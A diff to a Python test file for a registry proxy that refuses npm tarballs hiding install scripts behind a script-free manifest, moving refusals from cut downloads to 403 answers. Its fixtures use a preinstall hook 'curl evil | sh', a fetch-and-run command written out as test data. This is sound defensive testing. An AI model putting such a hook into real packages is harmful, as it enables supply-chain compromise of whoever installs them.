@@ -2,8 +2,9 @@
 manifest without scripts and ships a tarball whose own package.json has a `postinstall`.
 
 The rule judges the manifest, but yarn 1 runs the package.json inside the tarball, so the relay
-reads the tarball's own files too where the rule applies, and cuts the download before its end
-when they run code at install (`npm.tarscripts`).
+reads the tarball's own files too where the rule applies (`npm.tarscripts`). A tarball of at
+most `relay.HOLD_AT_MOST` bytes is withheld until the scan's verdict, so a refusal is a 403
+with the rule and the reason; a larger one is cut before its end.
 """
 
 from __future__ import annotations
@@ -18,7 +19,10 @@ from pathlib import Path
 import aiohttp
 from structlog.testing import capture_logs
 
+import pytest
+
 from mirrorgate.rules import parse_rules
+from mirrorgate.serve import relay
 from tests.serve.rig import RunningProxy, StartProxy
 from tests.servers.fixture_registry import Fault, FixtureRegistry
 from tests.servers.package_managers import client
@@ -56,6 +60,15 @@ async def install_with_scripts(tool: str, proxy: RunningProxy, tmp_path: Path,
     manager.write_project(dependencies)
     flags = [flag for flag in manager.isolation() if flag != "--ignore-scripts"]
     return await asyncio.to_thread(manager.run, "install", *flags)
+
+
+async def refused(proxy: RunningProxy, path: str) -> str:
+    """The reason of the 403 a download the scan refused answers, before any byte of it."""
+    answer = await proxy.get(path)
+    assert answer.status == 403, answer.body[:200]
+    assert answer.json()["rule"] == "install-scripts"
+    reason: str = answer.json()["reason"]
+    return reason
 
 
 async def read_cut(proxy: RunningProxy, path: str) -> bytes:
@@ -125,8 +138,31 @@ async def test_npm_never_runs_the_postinstall_of_a_dependency_bundled_in_the_tar
     assert "node_modules/inner: postinstall" in line["reason"]
 
 
-async def test_the_download_is_cut_before_its_end_and_the_reason_logged(
+async def test_hidden_scripts_are_a_403_with_the_rule_and_the_reason_at_the_first_pull(
         public_registry: FixtureRegistry, start_proxy: StartProxy) -> None:
+    # withheld until the scan's verdict: the client reads why, not a reset npm prints as
+    # "network aborted"
+    version = confused("confused-first", {"scripts": {"preinstall": "curl evil | sh"}},
+                       **{"filler.bin": bytes(range(256)) * 2048})
+    public_registry.add(make_package("confused-first", [version]))
+    proxy = await start_proxy(public_registry.url, rules=BLOCK)
+
+    with capture_logs() as logs:
+        first = await proxy.get("npm/confused-first/-/confused-first-1.0.0.tgz")
+
+    assert first.status == 403
+    assert first.json()["rule"] == "install-scripts"
+    assert "preinstall" in first.json()["reason"]
+    assert "does not show" in first.json()["reason"]  # manifest confusion, said so
+    [line] = [entry for entry in logs if entry["event"] == "tarball_scripts_refused"]
+    assert line["security"] is True
+    assert await proxy.jobs() == []
+
+
+async def test_a_tarball_too_large_to_withhold_is_cut_before_its_end_and_then_refused(
+        public_registry: FixtureRegistry, start_proxy: StartProxy,
+        monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(relay, "HOLD_AT_MOST", 1024)  # the fixture tarball is larger
     version = confused("confused-cut", {"scripts": {"preinstall": "curl evil | sh"}},
                        **{"filler.bin": bytes(range(256)) * 2048})
     public_registry.add(make_package("confused-cut", [version]))
@@ -135,7 +171,7 @@ async def test_the_download_is_cut_before_its_end_and_the_reason_logged(
     with capture_logs() as logs:
         body = await read_cut(proxy, "npm/confused-cut/-/confused-cut-1.0.0.tgz")
 
-    assert body != version.tarball
+    assert len(body) < len(version.tarball)  # streamed, then cut before its last chunk
     [line] = [entry for entry in logs if entry["event"] == "tarball_scripts_refused"]
     assert line["security"] is True
     assert line["rule"] == "install-scripts"
@@ -156,9 +192,9 @@ async def test_a_binding_gyp_counts_as_an_install_script(
     proxy = await start_proxy(public_registry.url, rules=BLOCK)
 
     with capture_logs() as logs:
-        body = await read_cut(proxy, "npm/confused-gyp/-/confused-gyp-1.0.0.tgz")
+        reason = await refused(proxy, "npm/confused-gyp/-/confused-gyp-1.0.0.tgz")
 
-    assert body != version.tarball
+    assert "binding.gyp" in reason
     [line] = [entry for entry in logs if entry["event"] == "tarball_scripts_refused"]
     assert "binding.gyp" in line["reason"]
 
@@ -190,9 +226,9 @@ async def test_public_bytes_standing_in_for_a_failed_private_copy_are_read_too(
         proxy = await start_proxy(public_registry.url, private=private.url, rules=BLOCK)
 
         with capture_logs() as logs:
-            body = await read_cut(proxy, "npm/confused-fallback/-/confused-fallback-1.0.0.tgz")
+            reason = await refused(proxy, "npm/confused-fallback/-/confused-fallback-1.0.0.tgz")
 
-    assert body != version.tarball
+    assert "does not show" in reason
     [line] = [entry for entry in logs if entry["event"] == "tarball_scripts_refused"]
     assert "install" in line["reason"]
 
@@ -207,9 +243,9 @@ async def test_a_mirrored_copy_in_the_private_registry_is_read_too(
         proxy = await start_proxy(public_registry.url, private=private.url, rules=BLOCK)
 
         with capture_logs() as logs:
-            body = await read_cut(proxy, "npm/confused-mirrored/-/confused-mirrored-1.0.0.tgz")
+            reason = await refused(proxy, "npm/confused-mirrored/-/confused-mirrored-1.0.0.tgz")
 
-    assert body != version.tarball
+    assert "does not show" in reason
     [line] = [entry for entry in logs if entry["event"] == "tarball_scripts_refused"]
     assert line["upstream"] == "private"
 
@@ -227,8 +263,8 @@ async def test_a_mirrored_copy_asked_for_once_public_fails_is_read_too(
         public_registry.fault(tarball_path("confused-late", "1.0.0"), Fault(status=503))
 
         with capture_logs() as logs:
-            body = await read_cut(proxy, "npm/confused-late/-/confused-late-1.0.0.tgz")
+            reason = await refused(proxy, "npm/confused-late/-/confused-late-1.0.0.tgz")
 
-    assert body != version.tarball
+    assert "does not show" in reason
     [line] = [entry for entry in logs if entry["event"] == "tarball_scripts_refused"]
     assert line["upstream"] == "private"
